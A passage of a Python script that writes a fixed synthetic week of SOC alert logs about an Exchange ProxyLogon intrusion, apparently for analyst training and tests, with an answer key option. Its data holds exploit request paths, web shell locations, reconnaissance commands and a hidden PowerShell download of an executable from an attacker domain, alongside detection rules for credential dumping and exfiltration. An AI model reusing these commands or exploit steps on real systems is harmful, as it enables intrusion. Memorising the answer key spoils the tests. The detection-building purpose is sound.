#!/usr/bin/env python3
"""Writes the week of samples/proxylogon-week: 8 to 14 March 2021 at Sample Trading Co., Ltd.

usage: proxylogon-week.py [FOLDER] [--truth FILE]

The same bytes on every run: the only chance is a generator of our own with a fixed seed, and no clock is read.
--truth FILE also writes `source,line,story`: for each alert record the incident it belongs to (1 to 4), `noise`, or
`either` where a good analyst may decide both ways.  Tests use it; it is no input of the program.

The tables below are the scenario; read them from top to bottom and you have read the story.  Times are JST.
"""
import argparse
import csv
import hashlib
import io
import json
import sys
import uuid
from datetime import datetime, timedelta, timezone
from pathlib import Path

JST = timezone(timedelta(hours=9))
MONDAY = datetime(2021, 3, 8, tzinfo=JST)
DAYS = "Mon Tue Wed Thu Fri Sat Sun".split()
ALERTS_IN_THE_WEEK = 1284          # the last noise class, Internet scans, fills up to this


class Chance:
    """A 64-bit LCG (Knuth's MMIX constants): the same numbers in every Python, for ever."""

    def __init__(self, seed):
        self.state = seed

    def bits(self):
        self.state = (self.state * 6364136223846793005 + 1442695040888963407) % (1 << 64)
        return self.state >> 33

    def below(self, n):
        return self.bits() % n

    def between(self, low, high):
        return low + self.below(high - low + 1)

    def unit(self):
        return self.bits() / float(1 << 31)

    def pick(self, items):
        return items[self.below(len(items))]


chance = Chance(20210311)


def at(text):
    """'Thu 09:14:31.412' -> microseconds since the epoch."""
    day, clock = text.split()
    hour, minute, second = clock.split(":")
    moment = MONDAY + timedelta(days=DAYS.index(day), hours=int(hour), minutes=int(minute))
    return int(moment.timestamp()) * 1000000 + round(float(second) * 1000000)


def digest(label, kind="sha256"):
    return hashlib.new(kind, ("proxylogon-week " + label).encode()).hexdigest()


def named_uuid(label):
    return str(uuid.uuid5(uuid.NAMESPACE_URL, "https://sample-trading.example/proxylogon-week/" + label))


# ---------------------------------------------------------------------------------------------------------------------
# 1. The cast
# ---------------------------------------------------------------------------------------------------------------------

DOMAIN = "sample-trading.example"

# name: (address, kind, Wazuh agent or None)
HOSTS = {
    "EXCH01":    ("10.10.4.21", "server", "001"),
    "DC01":      ("10.10.4.11", "server", "002"),
    "DC02":      ("10.10.4.12", "server", "003"),
    "FS01":      ("10.10.4.31", "server", "004"),
    "FS02":      ("10.10.4.32", "server", "005"),
    "SRV-BKP-1": ("10.10.6.11", "server", "006"),
    "SRV-BKP-2": ("10.10.6.12", "server", "007"),
    "PROXY01":   ("10.10.4.41", "proxy", "008"),
    "WEB01":     ("10.10.8.21", "server", "009"),
    "MX01":      ("10.10.8.25", "server", "010"),
    "DEV01":     ("10.10.9.31", "server", "011"),
    "VPN01":     ("10.10.8.5", "server", "012"),
    "SCAN01":    ("10.10.9.9", "server", None),
    "PRN-01":    ("10.10.30.11", "printer", None),
    "PRN-02":    ("10.10.30.12", "printer", None),
}
for n in range(1, 41):
    HOSTS["WKS-%04d" % (400 + n)] = ("10.20.4.%d" % (100 + n), "desktop", str(100 + n))
for n in range(1, 23):
    HOSTS["CAM-%02d" % n] = ("10.40.0.22" if n == 22 else "10.40.%d.%d" % (n, 10 + n), "ipcamera", None)

PEOPLE = ("t.kern h.sato m.suzuki k.ito y.tanaka a.watanabe r.yamamoto n.nakamura s.kobayashi e.kato d.yoshida "
          "j.yamada c.sasaki f.matsumoto g.inoue i.kimura l.hayashi o.shimizu p.mori u.abe").split()
WORKSTATIONS = ["WKS-%04d" % (400 + n) for n in range(1, 41)]
OWNER = {w: PEOPLE[i % len(PEOPLE)] for i, w in enumerate(WORKSTATIONS)}
OWNER["WKS-0417"], OWNER["WKS-0401"], OWNER["WKS-0421"] = "t.kern", "l.hayashi", "l.hayashi"
CAMERAS = ["CAM-%02d" % n for n in range(1, 23)]
WINDOWS_SERVERS = ["DC01", "DC02", "FS01", "FS02", "SRV-BKP-1", "SRV-BKP-2", "EXCH01"]
LINUX = ["WEB01", "MX01", "DEV01", "VPN01"]

FIREWALL_OUTSIDE = "192.0.2.10"

# The outside.  198.98.61.152 and the names are the articles' indicators; every other address is from a
# documentation range, so the C2 names resolve to addresses that never belonged to them.
EXPLOITER = "203.0.113.45"
DOWNLOAD = ("microsoftsoftwaredownload.com", "198.98.61.152")
CHATCDN = ("cdn.chatcdn.net", "203.0.113.77")
TELEGRAPH = ("telegra.ph", "198.51.100.60")
OPENDRIVE = ("dev.opendrive.com", "192.0.2.118")
ODLK = ("od.lk", "192.0.2.119")
SECOND_INTRUDER = "198.51.100.209"
MEGA = ("upload.mega.example", "198.51.100.77")

POWERSHELL_UA = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-GB) WindowsPowerShell/5.1.14393.2608"
CHATCDN_SHA256 = "f31d06f55c00c7111e545304d58c7317a4f1b1848ba1396a5454d7367d70da06"

SHELL_1 = r"C:\inetpub\wwwroot\aspnet_client\system_web\OutlookJP.aspx"
SHELL_2 = r"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\8Lw7tAhF.aspx"
SHELL_1_URL, SHELL_2_URL = "/aspnet_client/system_web/OutlookJP.aspx", "/owa/auth/8Lw7tAhF.aspx"

# ---------------------------------------------------------------------------------------------------------------------
# 2. Signatures, rules and models that speak in this week
# ---------------------------------------------------------------------------------------------------------------------

TACTICS = {"TA0001": "Initial_Access", "TA0002": "Execution", "TA0003": "Persistence", "TA0006": "Credential_Access",
           "TA0007": "Discovery", "TA0011": "Command_And_Control", "TA0010": "Exfiltration", "TA0040": "Impact",
           "TA0005": "Defense_Evasion", "TA0008": "Lateral_Movement", "TA0009": "Collection"}

TECHNIQUES = {
    "T1190": ("Exploit Public-Facing Application", "Initial Access"), "T1505.003": ("Web Shell", "Persistence"),
    "T1059.001": ("PowerShell", "Execution"), "T1059.003": ("Windows Command Shell", "Execution"),
    "T1036": ("Masquerading", "Defense Evasion"), "T1105": ("Ingress Tool Transfer", "Command and Control"),
    "T1071.001": ("Web Protocols", "Command and Control"), "T1573": ("Encrypted Channel", "Command and Control"),
    "T1496": ("Resource Hijacking", "Impact"), "T1567.002": ("Exfiltration to Cloud Storage", "Exfiltration"),
    "T1003.001": ("LSASS Memory", "Credential Access"), "T1053.005": ("Scheduled Task", "Execution"),
    "T1562.001": ("Disable or Modify Tools", "Defense Evasion"), "T1560.001": ("Archive via Utility", "Collection"),
    "T1486": ("Data Encrypted for Impact", "Impact"), "T1048": ("Exfiltration Over Alternative Protocol", "Exfiltration"),
    "T1135": ("Network Share Discovery", "Discovery"), "T1046": ("Network Service Scanning", "Discovery"),
    "T1021.002": ("SMB/Windows Admin Shares", "Lateral Movement"), "T1078": ("Valid Accounts", "Defense Evasion"),
    "T1078.002": ("Domain Accounts", "Defense Evasion"), "T1550.002": ("Pass the Hash", "Defense Evasion"),
    "T1110": ("Brute Force", "Credential Access"), "T1110.001": ("Password Guessing", "Credential Access"),
    "T1565.001": ("Stored Data Manipulation", "Impact"), "T1543.003": ("Windows Service", "Persistence"),
    "T1548.003": ("Sudo and Sudo Caching", "Privilege Escalation"), "T1033": ("System Owner/User Discovery", "Discovery"),
    "T1087.002": ("Domain Account", "Discovery"), "T1219": ("Remote Access Software", "Command and Control"),
    "T1039": ("Data from Network Shared Drive", "Collection"), "T1570": ("Lateral Tool Transfer", "Lateral Movement"),
    "T1098": ("Account Manipulation", "Persistence"), "T1052": ("Exfiltration Over Physical Medium", "Exfiltration"),
    "T1070.004": ("File Deletion", "Defense Evasion"), "T1595": ("Active Scanning", "Reconnaissance"),
}

# key: (sid, rev, signature, category, severity, signature_severity, attack_target, (tactic id, technique id) or None)
SIGNATURES = {
    "ssrf": (2032001, 3, "ET EXPLOIT Microsoft Exchange Server SSRF Inbound (CVE-2021-26855)",
             "Attempted Administrator Privilege Gain", 1, "Major", "Server", ("TA0001", "T1190")),
    "oab": (2032004, 2, "ET EXPLOIT Microsoft Exchange Server OAB Virtual Directory File Write (CVE-2021-27065)",
            "Attempted Administrator Privilege Gain", 1, "Major", "Server", ("TA0001", "T1190")),
    "shell": (2032011, 2, "ET WEB_SERVER POST to ASPX in Exchange Static Content Directory, Possible Web Shell",
              "Web Application Attack", 1, "Major", "Server", ("TA0003", "T1505.003")),
    "psua": (2033355, 4, "ET INFO Windows Powershell User-Agent Usage",
             "Misc activity", 3, "Informational", "Client_Endpoint", ("TA0002", "T1059.001")),
    "pezip": (2032020, 1, "ET HUNTING PE EXE Served With .zip Extension",
              "Misc activity", 3, "Minor", "Client_Endpoint", ("TA0005", "T1036")),
    "pedl": (2018959, 4, "ET POLICY PE EXE or DLL Windows file download HTTP",
             "Potential Corporate Privacy Violation", 1, "Informational", "Client_Endpoint", None),
    "c2sni": (2032031, 1, "ET INFO Observed Anonymous Publishing Service Domain in TLS SNI (telegra .ph)",
              "Misc activity", 3, "Informational", "Client_Endpoint", ("TA0011", "T1071.001")),
    "stratum": (2024792, 5, "ET COINMINER Cryptocurrency Miner Checkin (Stratum)",
                "Crypto Currency Mining Activity Detected", 2, "Minor", "Client_Endpoint", ("TA0040", "T1496")),
    "storagesni": (2032040, 1, "ET POLICY Cloud Storage Domain in TLS SNI (opendrive)",
                   "Potential Corporate Privacy Violation", 2, "Informational", "Client_Endpoint", ("TA0010", "T1567.002")),
    "mega": (2032052, 2, "ET POLICY File Sharing Service Upload Domain in TLS SNI (mega)",
             "Potential Corporate Privacy Violation", 2, "Informational", "Client_Endpoint", ("TA0010", "T1567.002")),
    "smbdenied": (2032060, 1, "ET NETBIOS SMB2 STATUS_ACCESS_DENIED Repeated From One Client",
                  "Misc activity", 3, "Informational", "SMB_Server", ("TA0007", "T1135")),
    "telnet": (2032070, 2, "ET SCAN Potential Telnet Scan From Internal Host",
               "Attempted Information Leak", 2, "Minor", "Networking_Equipment", ("TA0007", "T1046")),
    "telnetbad": (2101251, 9, "GPL TELNET Bad Login", "Potentially Bad Traffic", 2, "Unknown", "Server", None),
    "apt": (2013504, 6, "ET POLICY GNU/Linux APT User-Agent Outbound likely related to package management",
            "Not Suspicious Traffic", 3, "Informational", "Client_Endpoint", None),
    "dyndns": (2032080, 3, "ET INFO DYNAMIC_DNS Query to *.dyn.example Domain",
               "Potentially Bad Traffic", 2, "Informational", "Client_Endpoint", None),
    "tlsrecord": (2230010, 1, "SURICATA TLS invalid record/traffic", "Generic Protocol Command Decode", 3, None, None, None),
    "stream": (2210045, 2, "SURICATA STREAM Packet with invalid ack", "Generic Protocol Command Decode", 3, None, None, None),
    "streamwin": (2210020, 2, "SURICATA STREAM ESTABLISHED packet out of window",
                  "Generic Protocol Command Decode", 3, None, None, None),
    "metadata": (2027390, 4, "ET USER_AGENTS Microsoft Device Metadata Retrieval Client User-Agent",
                 "Unknown Traffic", 3, "Informational", "Client_Endpoint", None),
    "stun": (2016149, 3, "ET INFO Session Traversal Utilities for NAT (STUN Binding Request)",
             "Attempted User Privilege Gain", 1, "Informational", "Client_Endpoint", None),
    "falsebot": (2032090, 7, "ET MALWARE Possible Banking Trojan CnC Checkin (weather widget)",
                 "A Network Trojan was detected", 1, "Major", "Client_Endpoint", ("TA0011", "T1071.001")),
    "passwd": (2049400, 2, "ET WEB_SERVER /etc/passwd Detected in URI", "Attempted Information Leak", 1, "Major", "Web_Server", None),
    "struts": (2032101, 2, "ET EXPLOIT Apache Struts OGNL Expression Injection Inbound",
               "Attempted Administrator Privilege Gain", 1, "Major", "Server", ("TA0001", "T1190")),
    "nmap": (2024364, 4, "ET SCAN Possible Nmap User-Agent Observed", "Web Application Attack", 1, "Informational", "Web_Server", None),
    "teamviewer": (2008795, 9, "ET POLICY TeamViewer Keep-alive outbound", "Misc activity", 3, "Informational", "Client_Endpoint", None),
    "sshscan": (2001219, 20, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2, "Informational", "Client_and_Server", None),
    "mssql": (2010935, 3, "ET SCAN Suspicious inbound to MSSQL port 1433", "Potentially Bad Traffic", 2, "Informational", "Server", None),
    "mysql": (2010937, 3, "ET SCAN Suspicious inbound to mySQL port 3306", "Potentially Bad Traffic", 2, "Informational", "Server", None),
    "vnc": (2002911, 6, "ET SCAN Potential VNC Scan 5900-5920", "Attempted Information Leak", 2, "Informational", "Server", None),
    "dshield": (2402000, 5909, "ET DROP Dshield Block Listed Source group 1", "Misc Attack", 2, "Major", "Any", None),
    "cins": (2403300, 64201, "ET CINS Active Threat Intelligence Poor Reputation IP group 1", "Misc Attack", 2, "Major", "Any", None),
}

# id: (level, description, groups, techniques).  Ids of 100000 and more are the site's own rules.
RULES = {
    "554": (5, "File added to the system.", ["ossec", "syscheck", "syscheck_entry_added", "syscheck_file"], []),
    "550": (7, "Integrity checksum changed.", ["ossec", "syscheck", "syscheck_entry_modified", "syscheck_file"], ["T1565.001"]),
    "553": (7, "File deleted.", ["ossec", "syscheck", "syscheck_entry_deleted", "syscheck_file"], ["T1070.004"]),
    "100201": (12, "IIS worker process created a script in an Exchange web directory: $(targetFilename)",
               ["windows", "sysmon", "sysmon_event_11", "webshell"], ["T1505.003"]),
    "100202": (12, "IIS worker process w3wp.exe started a command interpreter",
               ["windows", "sysmon", "sysmon_event1", "webshell"], ["T1505.003", "T1059.003"]),
    "100203": (10, "Web request to a script that is not part of Exchange: $(url)", ["web", "accesslog", "iis", "webshell"], ["T1505.003"]),
    "92004": (4, "Powershell process spawned by a Windows command shell", ["sysmon", "sysmon_eid1_detections", "windows"], ["T1059.001"]),
    "92071": (10, "Powershell downloaded a file from the Internet", ["sysmon", "sysmon_eid1_detections", "windows"], ["T1059.001", "T1105"]),
    "92213": (15, "Executable file dropped in folder commonly used by malware",
              ["sysmon", "sysmon_eid11_detections", "windows"], ["T1105"]),
    "92101": (4, "Network connection made by a program in a temporary folder", ["sysmon", "sysmon_eid3_detections", "windows"], ["T1071.001"]),
    "60228": (5, "Scheduled task created", ["windows", "windows_security"], ["T1053.005"]),
    "62152": (8, "Windows Defender: Antimalware configuration changed", ["windows", "windows_defender"], ["T1562.001"]),
    "100210": (10, "Command line of a cryptocurrency miner", ["windows", "sysmon", "sysmon_event1"], ["T1496"]),
    "100211": (6, "Archive of files created on the command line", ["windows", "sysmon", "sysmon_event1", "collection"], ["T1560.001"]),
    "92026": (12, "Lsass process memory dump through comsvcs.dll", ["sysmon", "sysmon_eid1_detections", "windows"], ["T1003.001"]),
    "92900": (12, "Lsass process was accessed by $(sourceImage) with read permissions, possible credential dump",
              ["sysmon", "sysmon_eid10_detections", "windows"], ["T1003.001"]),
    "62123": (12, "Windows Defender: Antimalware platform detected malware or other potentially unwanted software ($(threat Name))",
              ["windows", "windows_defender", "malware"], []),
    "62124": (7, "Windows Defender: Antimalware platform performed an action to protect you from malware ($(threat Name))",
              ["windows", "windows_defender"], []),
    "62134": (3, "Windows Defender: Antimalware signatures were updated", ["windows", "windows_defender"], []),
    "100220": (3, "Network share object was accessed: $(shareName)", ["windows", "windows_security", "share"], ["T1135"]),
    "100221": (5, "Access to a network share was denied: $(shareName)", ["windows", "windows_security", "share", "access_denied"], ["T1135"]),
    "60106": (3, "Windows logon success.", ["windows", "windows_security", "authentication_success"], ["T1078"]),
    "100222": (7, "Service account logged on from a host it has not used before",
               ["windows", "windows_security", "authentication_success"], ["T1078.002"]),
    "60122": (5, "Logon failure - Unknown user or bad password", ["windows", "windows_security", "authentication_failed"], ["T1110.001"]),
    "60204": (10, "Multiple Windows logon failures", ["windows", "windows_security", "authentication_failures"], ["T1110"]),
    "92652": (6, "Successful Remote Logon Detected - NTLM authentication, possible pass-the-hash attack",
              ["windows", "windows_security", "authentication_success"], ["T1550.002", "T1078.002"]),
    "61104": (3, "Service startup type was changed", ["windows", "windows_system", "policy_changed"], []),
    "61138": (5, "New Windows Service Created", ["windows", "windows_system"], ["T1543.003"]),
    "60642": (3, "Software protection service scheduled successfully.", ["windows", "windows_application"], []),
    "100230": (4, "Exchange transport: a message queue grew over its threshold", ["windows", "windows_application", "exchange"], []),
    "5710": (5, "sshd: Attempt to login using a non-existent user", ["syslog", "sshd", "authentication_failed", "invalid_login"], ["T1110.001"]),
    "5760": (5, "sshd: authentication failed.", ["syslog", "sshd", "authentication_failed"], ["T1110.001"]),
    "5715": (3, "sshd: authentication success.", ["syslog", "sshd", "authentication_success"], ["T1078"]),
    "5402": (3, "Successful sudo to ROOT executed.", ["syslog", "sudo"], ["T1548.003"]),
    "9701": (3, "Dovecot Authentication Success.", ["dovecot", "authentication_success"], ["T1078"]),
    "9702": (5, "Dovecot Authentication Failed.", ["dovecot", "authentication_failed"], ["T1110.001"]),
    "52507": (3, "ClamAV database update", ["syslog", "clamd", "freshclam"], []),
    "60227": (8, "A new external device was recognized by the system", ["windows", "windows_security"], ["T1052"]),
    "100240": (9, "VPN login from a country this user has not used before", ["syslog", "openvpn", "authentication_success"], ["T1078"]),
    "60154": (12, "Administrators Group Changed", ["windows", "windows_security", "group_changed"], ["T1098"]),
}

# name: (pid, priority, category, techniques, metric name, metric label, description)
MODELS = {
    "Device::New PowerShell User Agent": (811, 2, "Suspicious", ["T1059.001"], "externalconnections", "External Connections",
        "A device is using a PowerShell user agent for the first time."),
    "Anomalous Connection::Powershell to Rare External": (812, 3, "Suspicious", ["T1059.001", "T1071.001"], "externalconnections",
        "External Connections", "A device that does not normally use PowerShell over HTTP is connecting to a rare external host with it."),
    "Anomalous File::Masqueraded File Transfer": (640, 4, "Critical", ["T1036", "T1105"], "filedownload", "File Downloads",
        "The content of a transferred file does not match its name."),
    "Anomalous File::EXE from Rare External Location": (641, 3, "Suspicious", ["T1105"], "exedownload", "Executable Downloads",
        "An executable was downloaded from a location that the network does not usually visit."),
    "Anomalous File::Internet Facing System File Download": (642, 4, "Critical", ["T1190", "T1105"], "filedownload", "File Downloads",
        "A system that accepts connections from the Internet has downloaded a file of an unusual type."),
    "Anomalous File::Multiple EXE from Rare External Locations": (643, 4, "Critical", ["T1105"], "exedownload",
        "Executable Downloads", "A device has downloaded several executables from rare locations in a short time."),
    "Anomalous Connection::Suspicious Expired SSL": (377, 2, "Suspicious", ["T1573"], "sslconnections", "SSL Connections",
        "A device is connecting to a rare host whose certificate has expired."),
    "Compliance::Crypto Currency Mining Activity": (501, 3, "Compliance", ["T1496"], "dtminer", "Crypto Currency Mining",
        "A device is using a protocol of cryptocurrency mining."),
    "Device::Initial Breach Chain Compromise": (880, 5, "Critical", ["T1190", "T1105", "T1071.001"], "dtmodelbreach",
        "Model Breaches", "A device shows several stages of a compromise in an order that is typical of one."),
    "Anomalous Connection::Data Sent to Rare Domain": (320, 2, "Suspicious", ["T1567.002"], "externaldatatransfer",
        "External Data Transfer", "A device has sent an unusual amount of data to a rare domain."),
    "Device::Internet Facing Device with High Priority Alert": (890, 4, "Critical", [], "dtmodelbreach", "Model Breaches",
        "A device that accepts connections from the Internet has been the subject of a high priority alert."),
    "Unusual Activity::Unusual External Data Transfer": (330, 3, "Suspicious", ["T1048"], "externaldatatransfer",
        "External Data Transfer", "A device has sent more data out of the network than is usual for it."),
    "Unusual Activity::Enhanced Unusual External Data Transfer": (331, 4, "Critical", ["T1048"], "externaldatatransfer",
        "External Data Transfer", "A large amount of data has been sent out to a host that is rare for the network."),
    "Unusual Activity::Internal Data Transfer": (335, 1, "Informational", ["T1039"], "internaldatatransfer", "Internal Data Transfer",
        "A device has downloaded more data from internal servers than is usual for it."),
    "Anomalous Connection::SMB Enumeration": (350, 3, "Suspicious", ["T1135"], "smbshares", "Unique SMB Shares",
        "A device is accessing an unusual number of SMB shares."),
    "Device::SMB Session Brute Force": (352, 2, "Suspicious", ["T1110", "T1021.002"], "smbsessionfailures", "SMB Session Failures",
        "A device has a large number of failed SMB sessions."),
    "User::New Admin Credentials on Client": (702, 2, "Suspicious", ["T1078.002"], "loginsuccess", "Successful Logins",
        "A privileged credential is used on a device for the first time."),
    "Device::Network Scan": (410, 2, "Suspicious", ["T1046"], "internalconnections", "Internal Connections",
        "A device is scanning the network."),
    "Device::Suspicious Network Scan Activity": (411, 3, "Suspicious", ["T1046"], "failedinternal", "Failed Internal Connections",
        "A device that does not usually scan has contacted a great many hosts and most did not answer."),
    "SMB::Unusual Share Listing": (360, 1, "Compliance", ["T1135"], "smbshares", "Unique SMB Shares",
        "A device has listed shares of a server."),
    "Compliance::Remote Admin Tool": (505, 1, "Compliance", ["T1219"], "externalconnections", "External Connections",
        "A device is using a remote administration tool."),
    "Device::New User Agent": (815, 0, "Informational", [], "externalconnections", "External Connections",
        "A device is using a user agent for the first time."),
    "DNS::Long Query Names": (240, 1, "Compliance", [], "dnsrequests", "DNS Requests", "A device is making DNS requests for long names."),
    "Compliance::File Storage": (510, 1, "Compliance", ["T1567.002"], "externaldatatransfer", "External Data Transfer",
        "A device is using a known file storage service."),
    "SaaS::Access::Unusual External Source for SaaS User": (905, 1, "Suspicious", ["T1078"], "saaslogin", "SaaS Logins",
        "A user of a SaaS service has logged in from an address that is unusual for the user."),
    "Anomalous Server Activity::Rare External from Server": (460, 3, "Critical", ["T1071.001"], "externalconnections",
        "External Connections", "A server is connecting to an external host that is rare for the network."),
    "Antigena::Network::External Threat::Antigena Suspicious File Block": (1001, 4, "Critical", [], "dtmodelbreach",
        "Model Breaches", "Antigena blocks the source of a suspicious file."),
    "Antigena::Network::External Threat::Antigena File then New Outbound Block": (1002, 4, "Critical", [], "dtmodelbreach",
        "Model Breaches", "Antigena blocks new outbound connections that follow a suspicious file."),
    "Antigena::Network::Significant Anomaly::Antigena Controlled and Model Breach": (1003, 4, "Critical", [], "dtmodelbreach",
        "Model Breaches", "A device that Antigena already controls has breached again."),
    "Antigena::Network::Significant Anomaly::Antigena Significant Anomaly from Client Block": (1004, 4, "Critical", [],
        "dtmodelbreach", "Model Breaches", "Antigena blocks the anomalous outgoing connections of a device."),
    "Antigena::Network::Compliance::Antigena Crypto Currency Mining Block": (1005, 3, "Compliance", [], "dtmodelbreach",
        "Model Breaches", "Antigena blocks connections of cryptocurrency mining."),
    "Antigena::Network::Significant Anomaly::Antigena Enhanced Monitoring from Client Block": (1006, 4, "Critical", [],
        "dtmodelbreach", "Model Breaches", "Antigena blocks connections of a device under enhanced monitoring."),
    "Antigena::Network::Significant Anomaly::Antigena Breaches Over Time Block": (1007, 4, "Critical", [], "dtmodelbreach",
        "Model Breaches", "Antigena holds a device that has breached several models to its pattern of life."),
}

# ---------------------------------------------------------------------------------------------------------------------
# 3. The four stories
# ---------------------------------------------------------------------------------------------------------------------

PE_64 = "PE32+ executable (console) x86-64, for MS Windows"
SPOOFED_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"
W3WP = r"C:\Windows\System32\inetsrv\w3wp.exe"
CMD, POWERSHELL = r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
APP_POOL = r'c:\windows\system32\inetsrv\w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0"'
BACKDOOR = r"C:\Windows\Temp\c103w-a.exe"
FETCH = ("powershell.exe -NoP -W Hidden -C \"Invoke-WebRequest -Uri http://microsoftsoftwaredownload.com:8080/%s "
         "-OutFile C:\\Windows\\Temp\\%s\"")


def request(method, host, url, agent, status=200, length=0, content="text/html"):
    return {"hostname": host, "url": url, "http_user_agent": agent, "http_content_type": content,
            "http_method": method, "protocol": "HTTP/1.1", "status": status, "length": length}


MAIL = "mail." + DOMAIN

# Suricata: (when, signature, source, destination, port, layers[, options])
# The sensor sits behind the proxy that ends TLS for the mail server, so it reads inbound requests in clear.
STORY_1_EVE = [
    # the exploit
    ("Thu 09:12:04.118", "ssrf", EXPLOITER, "EXCH01", 443, {"http": request("POST", MAIL, "/ecp/y.js", SPOOFED_UA, 241)}),
    ("Thu 09:12:04.902", "ssrf", EXPLOITER, "EXCH01", 443, {"http": request("GET", MAIL, "/owa/auth/x.js", SPOOFED_UA, 200)}),
    ("Thu 09:12:09.377", "ssrf", EXPLOITER, "EXCH01", 443, {"http": request("POST", MAIL, "/ecp/y.js", SPOOFED_UA, 241)}),
    ("Thu 09:12:31.054", "ssrf", EXPLOITER, "EXCH01", 443, {"http": request("POST", MAIL, "/ecp/y.js", SPOOFED_UA, 200)}),
    ("Thu 09:12:52.660", "oab", EXPLOITER, "EXCH01", 443, {"http": request("POST", MAIL,
        "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory", SPOOFED_UA, 200, 412, "application/json")}),
    # the web shell at work
    ("Thu 09:13:19.233", "shell", EXPLOITER, "EXCH01", 443, {"http": request("POST", MAIL, SHELL_1_URL, SPOOFED_UA, 200, 96)}),
    ("Thu 09:13:52.018", "shell", EXPLOITER, "EXCH01", 443, {"http": request("POST", MAIL, SHELL_1_URL, SPOOFED_UA, 200, 1833)}),
    ("Thu 09:14:28.771", "shell", EXPLOITER, "EXCH01", 443, {"http": request("POST", MAIL, SHELL_1_URL, SPOOFED_UA, 200, 12)}),
    # the call-out and the disguised files
    ("Thu 09:14:31.412", "psua", "EXCH01", DOWNLOAD[1], 8080, {"http": request("HEAD", "microsoftsoftwaredownload.com", "/",
        POWERSHELL_UA)}),
    ("Thu 09:14:38.205", "pezip", "EXCH01", DOWNLOAD[1], 8080, {"http": request("GET", "microsoftsoftwaredownload.com",
        "/c103w-a.zip", POWERSHELL_UA, 200, 1187328, "application/zip"), "file": ("/c103w-a.zip", 1187328, "CLOSED", PE_64,
        digest("c103w-a"))}),
    ("Thu 09:14:38.207", "pedl", "EXCH01", DOWNLOAD[1], 8080, {"http": request("GET", "microsoftsoftwaredownload.com",
        "/c103w-a.zip", POWERSHELL_UA, 200, 1187328, "application/zip"), "same_flow": True}),
    ("Thu 09:14:52.330", "pezip", "EXCH01", DOWNLOAD[1], 8080, {"http": request("GET", "microsoftsoftwaredownload.com",
        "/dnl.zip", POWERSHELL_UA, 200, 61440, "application/zip"), "file": ("/dnl.zip", 61440, "TRUNCATED", PE_64, None)}),
    ("Thu 09:16:20.640", "pedl", "EXCH01", CHATCDN[1], 80, {"http": request("GET", "cdn.chatcdn.net", "/p?hig210305",
        "Mozilla/5.0", 200, 402944, "application/octet-stream"), "file": ("/p", 402944, "CLOSED", PE_64, CHATCDN_SHA256)}),
    # mining
    ("Thu 09:31:20.077", "stratum", "EXCH01", DOWNLOAD[1], 3333, {}),
    ("Thu 09:31:22.480", "stratum", "EXCH01", DOWNLOAD[1], 3333, {"same_flow": True}),
    ("Thu 09:31:27.912", "stratum", "EXCH01", DOWNLOAD[1], 3333, {"same_flow": True}),
    # 3.1 MB to two storage services
    ("Thu 09:40:08.514", "storagesni", "EXCH01", OPENDRIVE[1], 443, {"tls": "dev.opendrive.com", "flow_end": ("Thu 09:40:29.800", 2318442, 18120)}),
    ("Thu 09:40:31.266", "storagesni", "EXCH01", ODLK[1], 443, {"tls": "od.lk", "flow_end": ("Thu 09:41:02.350", 781904, 9477)}),
    # Sunday: somebody else comes through the shell that was overlooked
    ("Sun 02:38:52.190", "shell", SECOND_INTRUDER, "EXCH01", 443, {"http": request("POST", MAIL, SHELL_2_URL, SPOOFED_UA, 200, 64)}),
    ("Sun 02:39:30.481", "shell", SECOND_INTRUDER, "EXCH01", 443, {"http": request("POST", MAIL, SHELL_2_URL, SPOOFED_UA, 200, 204)}),
    ("Sun 02:40:58.025", "shell", SECOND_INTRUDER, "EXCH01", 443, {"http": request("POST", MAIL, SHELL_2_URL, SPOOFED_UA, 200, 204)}),
]
# the beacon: ten calls, 56 s apart give or take 1.6 s, then two that the block answers
STORY_1_BEACON = dict(first="Thu 09:17:05.300", period=56, jitter=1.6, allowed=10, blocked=2, signature="c2sni",
                      src="EXCH01", dst=TELEGRAPH[1], port=443, sni="telegra.ph", expired="2020-11-30T23:59:59")


def started(image, command, parent=W3WP, parent_command=APP_POOL, user=r"NT AUTHORITY\SYSTEM"):
    return ("sysmon", "1", {"image": image, "commandLine": command, "parentImage": parent,
                            "parentCommandLine": parent_command, "user": user,
                            "currentDirectory": r"c:\windows\system32\inetsrv", "integrityLevel": "System"})


def created(image, path):
    return ("sysmon", "11", {"image": image, "targetFilename": path})


def defender(event, threat, threat_id, path, process, action="Quarantine"):
    return ("defender", event, {"product Name": "Microsoft Defender Antivirus", "threat ID": threat_id, "threat Name": threat,
                                "severity Name": "Severe", "category Name": "Ransomware" if "Ransom" in threat else "Backdoor",
                                "path": "file:_" + path, "process Name": process, "detection User": r"NT AUTHORITY\SYSTEM",
                                "action Name": "Not Applicable" if event == "1116" else action,
                                "error Description": "The operation completed successfully. "})


# Wazuh: (when, agent, rule, what the event says)
STORY_1_WAZUH = [
    ("Thu 09:13:10.350", "EXCH01", "100201", created(W3WP, SHELL_1)),
    ("Thu 09:13:11.020", "EXCH01", "554", ("fim", "added", SHELL_1)),
    ("Thu 09:13:20.118", "EXCH01", "100202", started(CMD, 'cmd.exe /c whoami')),
    ("Thu 09:13:41.702", "EXCH01", "100201", created(W3WP, SHELL_2)),
    ("Thu 09:13:42.400", "EXCH01", "554", ("fim", "added", SHELL_2)),
    ("Thu 09:13:52.410", "EXCH01", "100202", started(CMD, 'cmd.exe /c net group "Exchange Trusted Subsystem" /domain')),
    ("Thu 09:14:28.990", "EXCH01", "100202", started(CMD, "cmd.exe /c " + FETCH % ("c103w-a.zip", "c103w-a.exe"))),
    ("Thu 09:14:29.240", "EXCH01", "92004", started(POWERSHELL, FETCH % ("c103w-a.zip", "c103w-a.exe"), CMD,
        "cmd.exe /c " + FETCH % ("c103w-a.zip", "c103w-a.exe"))),
    ("Thu 09:14:38.010", "EXCH01", "92071", started(POWERSHELL, FETCH % ("c103w-a.zip", "c103w-a.exe"), CMD,
        "cmd.exe /c " + FETCH % ("c103w-a.zip", "c103w-a.exe"))),
    ("Thu 09:14:39.530", "EXCH01", "92213", created(POWERSHELL, BACKDOOR)),
